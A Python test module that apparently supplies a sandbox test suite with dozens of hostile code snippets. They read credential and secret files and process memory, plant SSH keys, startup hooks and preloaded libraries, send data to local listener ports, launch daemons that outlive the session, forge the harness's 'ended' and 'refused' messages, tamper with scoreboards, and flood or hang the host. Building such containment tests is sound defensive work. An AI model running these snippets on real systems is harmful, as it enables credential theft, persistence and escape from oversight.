"""What hostile code tries: snippets by kind. Each is tried at import, in a cell, in a child.

`T` is what the code knows of its targets; `got` keeps what it could read, `RUN` runs a program.
"""

# ruff: noqa: E501 - the lines are those of the attacks.

from __future__ import annotations

from collections.abc import Mapping

PRELUDE = """
import ctypes, gc, json, os, socket, subprocess, sys, threading, time
for _ in range(100):
    try: T = json.load(open({targets!r})); break
    except (OSError, ValueError): time.sleep(0.05)
LOOT = []
def got(value): LOOT.append(value if isinstance(value, str) else repr(value))
def RUN(*words, **more):
    done = subprocess.run(words, capture_output=True, timeout=5, **more)
    got(repr(done.stdout) + repr(done.stderr))
def each(things, do):
    for thing in things:
        try: do(thing)
        except Exception as error: got("!" + type(error).__name__)
def read(path):
    with open(path, "rb") as file: got(file.read(1 << 20))
def put(path, mode="a"):
    with open(path, mode) as file: file.write(T["mark"])
LIBC = ctypes.CDLL(None, use_errno=True)
def attack():
    try:
{attack}
    except BaseException as error: got("!" + type(error).__name__)
"""

READS = {
    "environ of all": 'each(os.listdir("/proc"), lambda p: read(f"/proc/{p}/environ"))',
    "environ of the command": "read(f\"/proc/{T['command']}/environ\")",
    "environ of the parent": 'read(f"/proc/{os.getppid()}/environ")',
    "environ of init": 'read("/proc/1/environ")',
    "memory of the command": """
m = [l.split()[0] for l in open(f"/proc/{T['command']}/maps") if "[heap]" in l or "[stack]" in l]
f = os.open(f"/proc/{T['command']}/mem", os.O_RDONLY)
for r in m:
    a, b = (int(x, 16) for x in r.split("-")); got(os.pread(f, b - a, a))""",
    "memory by process_vm_readv": """
class V(ctypes.Structure): _fields_ = [("a", ctypes.c_void_p), ("n", ctypes.c_size_t)]
b = ctypes.create_string_buffer(1 << 16); l, r = V(ctypes.addressof(b), 1 << 16), V(0x10000, 1 << 16)
for p in (T["victim"], T["command"], os.getppid(), 1):
    got(LIBC.process_vm_readv(p, ctypes.byref(l), 1, ctypes.byref(r), 1, 0)); got(b.raw)""",
    "ptrace": """
for p in (T["victim"], T["command"], os.getppid(), 1):
    if LIBC.ptrace(16, p, 0, 0) == 0: got("traced"); put(T["home"] + "/traced")""",
    "descriptors of the command": """
base = f"/proc/{T['command']}/fd"
each(os.listdir(base), lambda n: read(f"{base}/{n}"))""",
    "pidfd_getfd": """
for p in (T["victim"], T["command"], 1):
    d = LIBC.syscall(434, p, 0)
    for n in range(32):
        f = LIBC.syscall(438, d, n, 0)
        if f >= 0: put(T["home"] + "/stolen"); got(os.pread(f, 4096, 0))""",
    "private files": 'each(T["files"], read)',
    "cat": 'each(T["files"], lambda f: RUN("cat", f))',
    "shadow": 'read("/etc/shadow")',
    "home of root": 'each(os.scandir("/root"), lambda e: read(e.path))',
    "links": """
for n, f in enumerate(T["files"]):
    os.symlink(f, f"link{n}"); read(f"link{n}")""",
    "hard links": """
for n, f in enumerate(T["files"]):
    os.link(f, f"hard{n}"); read(f"hard{n}")""",
    "/proc/self/root": 'each(T["files"], lambda f: read("/proc/self/root" + f))',
    "/proc/1/root": 'each(T["files"], lambda f: read("/proc/1/root" + f))',
    "/proc/PID/cwd": """
each(T["files"], lambda f: read(f"/proc/{T['command']}/root" + f))
each(T["files"], lambda f: read("../" * 20 + f[1:]))""",
    "openat by O_PATH": """
d = os.open("/", os.O_PATH | os.O_DIRECTORY)
each(T["files"], lambda f: got(os.read(os.open(f[1:], os.O_RDONLY, dir_fd=d), 4096)))""",
    "handles": """
class H(ctypes.Structure): _fields_ = [("n", ctypes.c_uint), ("t", ctypes.c_int), ("h", ctypes.c_char * 128)]
h, m = H(128, 0, b""), ctypes.c_int()
LIBC.name_to_handle_at(-100, T["files"][0].encode(), ctypes.byref(h), ctypes.byref(m), 0)
f = LIBC.open_by_handle_at(os.open("/", os.O_RDONLY), ctypes.byref(h), 0)
got(os.read(f, 4096))""",
    "inherited descriptors": """
for n in range(3, 256):
    try: got(os.readlink(f"/proc/self/fd/{n}")); got(os.pread(n, 1 << 16, 0)); read(f"/proc/self/fd/{n}")
    except OSError: pass""",
    "own environment": 'got(dict(os.environ)); read("/proc/self/environ")',
    "mount": """
LIBC.unshare(0x10020000); os.makedirs("m", exist_ok=True)
LIBC.mount(T["home"].encode(), b"m", None, 4096, None); read("m/.ssh/id_rsa")""",
    "kernel keys, dmesg": """
got(LIBC.syscall(250, 11, 0, 0)); b = ctypes.create_string_buffer(65536)
got(LIBC.klogctl(3, b, 65536)); got(b.raw)""",
    "hidden files of the tree": """
each([n for n in os.listdir(T["code"]) if n[0] == "."], lambda n: read(os.path.join(T["code"], n)))
each([".env", ".git/config"], lambda n: read(os.path.join(T["code"], n)))""",
    "io_uring": """
p = ctypes.create_string_buffer(120)
if LIBC.syscall(425, 8, p) >= 0: put(T["home"] + "/ring"); got("ring")""",
}

WRITES = {
    "append": 'each(T["files"], put)',
    "new files": """
each([T["home"] + "/.profile", T["home"] + "/.ssh/authorized_keys", T["folder"] + "/precious/new",
      T["code"] + "/sitecustomize.py", T["folder"] + "/worktree/other.py"], put)""",
    "truncate": 'each(T["files"], lambda f: os.truncate(f, 0))',
    "unlink": 'each(T["files"], os.unlink)',
    "rename": 'each(T["files"], lambda f: os.rename(f, f + ".old"))',
    "rename into": """
put("mine"); each(T["files"], lambda f: os.rename("mine", f))""",
    "link into": 'put("mine"); os.link("mine", T["home"] + "/linked")',
    "symlink into": 'os.symlink("/etc/passwd", T["home"] + "/linked")',
    "directories": 'os.mkdir(T["home"] + "/made"); os.rmdir(T["folder"] + "/worktree")',
    "chmod": 'each([T["home"], *T["files"]], lambda f: os.chmod(f, 0o777))',
    "fchmod by O_PATH": """
each(T["files"], lambda f: os.chmod(f"/proc/self/fd/{os.open(f, os.O_PATH)}", 0o777))""",
    "utime": 'each(T["files"], lambda f: os.utime(f, (1, 1)))',
    "chown": 'each(T["files"], lambda f: os.chown(f, 12345, 12345))',
    "attributes": 'each(T["files"], lambda f: os.setxattr(f, "user.mark", T["mark"].encode()))',
    "/proc/self/fd": """
for f in T["files"]:
    d = os.open(f, os.O_PATH); put(f"/proc/self/fd/{d}")""",
    "memfd and exec": """
f = os.memfd_create("run"); os.write(f, b"#!/bin/sh\\necho x >> " + T["files"][1].encode() + b"\\n")
os.set_inheritable(f, True)
RUN("/bin/sh", f"/proc/self/fd/{f}", close_fds=False); RUN(f"/proc/self/fd/{f}", close_fds=False)""",
    "shell": 'RUN("sh", "-c", f"echo x >> {T[\'files\'][1]}; touch {T[\'home\']}/shell")',
    "shared memory": 'put("/dev/shm/" + T["mark"])',
    "temporary directory": 'each(["/tmp", "/var/tmp", "/dev"], lambda d: put(d + "/" + T["mark"]))',
    "pipes and devices": """
os.mkfifo(T["home"] + "/pipe"); os.mknod(T["home"] + "/node", 0o20666, os.makedev(1, 3))""",
    "nameless files": """
f = os.open(T["home"], os.O_TMPFILE | os.O_RDWR); os.write(f, b"x")
os.link(f"/proc/self/fd/{f}", T["home"] + "/tmpfile", follow_symlinks=True)""",
    "packages": """
import luigi, model_gateway, self_improve
each([m.__path__[0] for m in (luigi, model_gateway, self_improve)], lambda p: put(p + "/" + T["mark"]))""",
    "data repo": """
each(["scores/scoreboard.csv", "history/x", "dataset.json", ".git/hooks/post-commit"],
     lambda n: put(T["lab"] + "/" + n))""",
    "preloaded library": """
os.environ["LD_PRELOAD"] = T["code"] + "/x.so"; os.environ["PYTHONSTARTUP"] = T["code"] + "/x.py"
RUN("touch", T["home"] + "/preloaded")""",
    "inherited descriptors, written": """
for n in range(3, 256):
    try: put(f"/proc/self/fd/{n}", "w")
    except OSError: pass""",
    "other cells": """
d = os.path.dirname(os.path.dirname(os.getcwd()))
each(os.listdir(d), lambda n: got(n)); each([d + "/x", d + "/.." + "/x"], put)""",
}

_SEND = 's.sendall(T["mark"].encode())'
SENDS = {
    "tcp": f's = socket.create_connection(("127.0.0.1", T["ports"]["tcp4"]), 2); {_SEND}',
    "tcp, any address": f's = socket.create_connection(("0.0.0.0", T["ports"]["tcp4"]), 2); {_SEND}',
    "tcp6": f's = socket.create_connection(("::1", T["ports"].get("tcp6", 1)), 2); {_SEND}',
    "fast open": """
s = socket.socket(); s.sendto(b"x", 0x20000000, ("127.0.0.1", T["ports"]["tcp4"]))""",
    "udp": """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("127.0.0.1", T["ports"]["udp4"]))""",
    "unix": f's = socket.socket(socket.AF_UNIX); s.connect(T["socket"]); {_SEND}',
    "abstract": f's = socket.socket(socket.AF_UNIX); s.connect("\\0" + T["abstract"]); {_SEND}',
    "unix datagram": """
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b"x", T["socket"] + ".datagram")""",
    "datagram of a pair": """
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b"x", T["socket"] + ".datagram")""",
    "raw": 's = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); got("raw"); put(T["home"] + "/raw")',
    "other families": """
def family(n):
    for kind in (1, 2, 3, 5):
        s = socket.socket(n, kind); got(f"family {n}"); put(T["home"] + f"/family{n}")
each([16, 17, 29, 31, 38, 40, 44], family)""",
    "bash": 'RUN("bash", "-c", f"echo x > /dev/tcp/127.0.0.1/{T[\'ports\'][\'tcp4\']}")',
    "curl": 'RUN("curl", "-m", "2", f"http://127.0.0.1:{T[\'ports\'][\'tcp4\']}/")',
    "http with a proxy": """
import urllib.request
os.environ["http_proxy"] = f"http://127.0.0.1:{T['ports']['tcp4']}"
urllib.request.urlopen("http://example.com/", timeout=2)""",
    "all descriptors": """
for n in range(3, 128):
    try: os.write(n, T["mark"].encode() + b"\\n")
    except OSError: pass""",
    "passed descriptors": """
f = os.open("/etc/passwd", os.O_RDONLY)
for n in range(3, 128):
    try:
        with socket.socket(fileno=os.dup(n)) as s: socket.send_fds(s, [b"x" * 24], [f] * 8)
    except OSError: pass""",
    "other network": """
for p in (1, T["command"], T["victim"]):
    try: got(LIBC.setns(os.open(f"/proc/{p}/ns/net", os.O_RDONLY), 0))
    except OSError: pass
s = socket.create_connection(("127.0.0.1", T["ports"]["tcp4"]), 2)""",
}

SIGNALS = {
    "kill": 'each([T["victim"]], lambda p: os.kill(p, 10))',
    "kill a group": 'each([T["victim"]], lambda p: os.killpg(p, 10))',
    "window": "os.kill(-1, 28)",
    "pidfd": "import signal; signal.pidfd_send_signal(os.pidfd_open(T['victim']), 10)",
    "tgkill": 'got(LIBC.syscall(234, T["victim"], T["victim"], 10))',
    "queue": 'got(LIBC.sigqueue(T["victim"], 10, 0))',
    "shell": 'RUN("sh", "-c", f"kill -USR1 {T[\'victim\']}; kill -TERM {T[\'command\']}")',
    "owner of a pipe": """
import fcntl; r, w = os.pipe()
fcntl.fcntl(r, 10, 10); fcntl.fcntl(r, 8, T["victim"]); fcntl.fcntl(r, 4, 0o20000); os.write(w, b"x")""",
    "the command": 'os.kill(T["command"], 15)',
    "priority": """
os.setpriority(os.PRIO_PROCESS, T["victim"], 19)
if os.getpriority(os.PRIO_PROCESS, T["victim"]) == 19: put(T["home"] + "/priority")""",
    "limits": "import resource; resource.prlimit(T['victim'], resource.RLIMIT_NOFILE, (1, 1)); put(T['home'] + '/limit')",
}

_LONG = (
    'os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", T["mark"]])'
)
DAEMONS = {
    "double fork": f"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: {_LONG}
    os._exit(0)""",
    "background": "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', T['mark']], start_new_session=True)",
    "nohup": 'RUN("sh", "-c", f"nohup {sys.executable} -c \'import time; time.sleep(300)\' {T[\'mark\']} >/dev/null 2>&1 &")',
    "without environment": "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', T['mark']], env={}, start_new_session=True, close_fds=False)",
    "deaf": f"""
import signal
if os.fork() == 0:
    os.setsid()
    for n in range(1, 32):
        try: signal.signal(n, signal.SIG_IGN)
        except OSError: pass
    {_LONG}""",
    "many": f"""
for _ in range(60):
    if os.fork() == 0:
        os.setsid(); {_LONG}""",
    "forking on": f"""
if os.fork() == 0:
    os.setsid(); end = time.time() + 60
    while time.time() < end:
        if os.fork(): os._exit(0)
        os.setsid(); time.sleep(0.01)
        if os.path.exists("/nowhere"): {_LONG}""",
    "holding all descriptors": f"""
if os.fork() == 0:
    os.setsid()
    for n in range(3, 64):
        try: os.set_inheritable(n, True)
        except OSError: pass
    {_LONG}""",
}

_WRITE_ALL = """
for n in range(0, 128):
    try: os.write(n, line)
    except OSError: pass"""
FORGERIES = {
    "ended": f"""
CELLS = [o.id for o in gc.get_objects() if type(o).__name__ == "CellRequest"]
line = b"".join(json.dumps({{"ended": i, "status": 93}}).encode() + b"\\n" for i in CELLS){_WRITE_ALL}
time.sleep(0.3); os._exit(1)""",
    "ready": f"""
line = json.dumps({{"ready": 1, "steps": [], "surfaces": []}}).encode() + b"\\n"{_WRITE_ALL}""",
    "refused": f"""
line = b'\\n{{"refused": "' + T["mark"].encode() + b'"}}\\n'{_WRITE_ALL}""",
    "no JSON": f"""
line = b"\\x00\\xff{{{{\\n[1]\\n"{_WRITE_ALL}""",
    "deep JSON": f"""
line = b"[" * 200000 + b"\\n"{_WRITE_ALL}""",
    "exit status": "os._exit(93)",
    "killed parent": "os.kill(os.getppid(), 9); os.kill(1, 9); os._exit(93)",
    "closed descriptors": "os.closerange(3, 256)",
    "shut sockets": """
for n in range(3, 128):
    try: socket.socket(fileno=os.dup(n)).shutdown(2)
    except OSError: pass""",
}

FLOODS = {
    "output": 'os.write(1, b"x" * (1 << 20)); [os.write(1, b"y" * (1 << 20)) for _ in range(300)]',
    "one file": 'f = open("big", "wb"); [f.write(b"x" * (1 << 24)) for _ in range(40)]',
    "many files": '[open(f"many{n}", "w").close() for n in range(12000)]',
    "deep folders": """
for _ in range(400): os.mkdir("d"); os.chdir("d")""",
    "closed folders": 'os.mkdir("shut", 0); open("shut2", "w").close()',
    "links as results": """
for n in ("002-found.json", "log.txt", "../log.txt", "../result.json"):
    try: os.unlink(n)
    except OSError: pass
    each([n], lambda n: os.symlink(T["files"][0], n))""",
    "pipes as results": 'each(["002-found.json", "other.json"], os.mkfifo)',
    "odd names": r'each(["a\nb", "\udcff", "x" * 255, "\x1b[31m"], lambda n: open(n, "w").close())',
    "rooms": """
room = os.path.dirname(T.get("room") or os.path.dirname(os.getcwd()))
def swap():
    end = time.time() + 4
    while time.time() < end:
        for name in os.listdir(os.environ["HOME"] + "/.."):
            path = os.environ["HOME"] + "/../" + name
            try:
                os.rename(path + "/plan", path + "/was"); os.symlink(T["folder"] + "/precious", path + "/plan")
                os.rename(path + "/log.txt", path + "/l"); os.symlink(T["files"][0], path + "/log.txt")
            except OSError: pass
threading.Thread(target=swap, daemon=True).start()""",
}

HANGS = {
    "endless": "while True: pass",
    "asleep": "time.sleep(100000)",
    "deaf": """
import signal
for n in range(1, 32):
    try: signal.signal(n, signal.SIG_IGN)
    except OSError: pass
time.sleep(100000)""",
    "reading": "sys.stdin.read(); os.read(0, 1); socket.socketpair()[0].recv(1)",
    "stopped": "import signal; os.kill(os.getpid(), signal.SIGSTOP)",
}

ATTACKS: Mapping[str, Mapping[str, str]] = {
    "reads": READS, "writes": WRITES, "sends": SENDS, "signals": SIGNALS, "daemons": DAEMONS,
    "forgeries": FORGERIES, "floods": FLOODS, "hangs": HANGS,
}  # fmt: skip
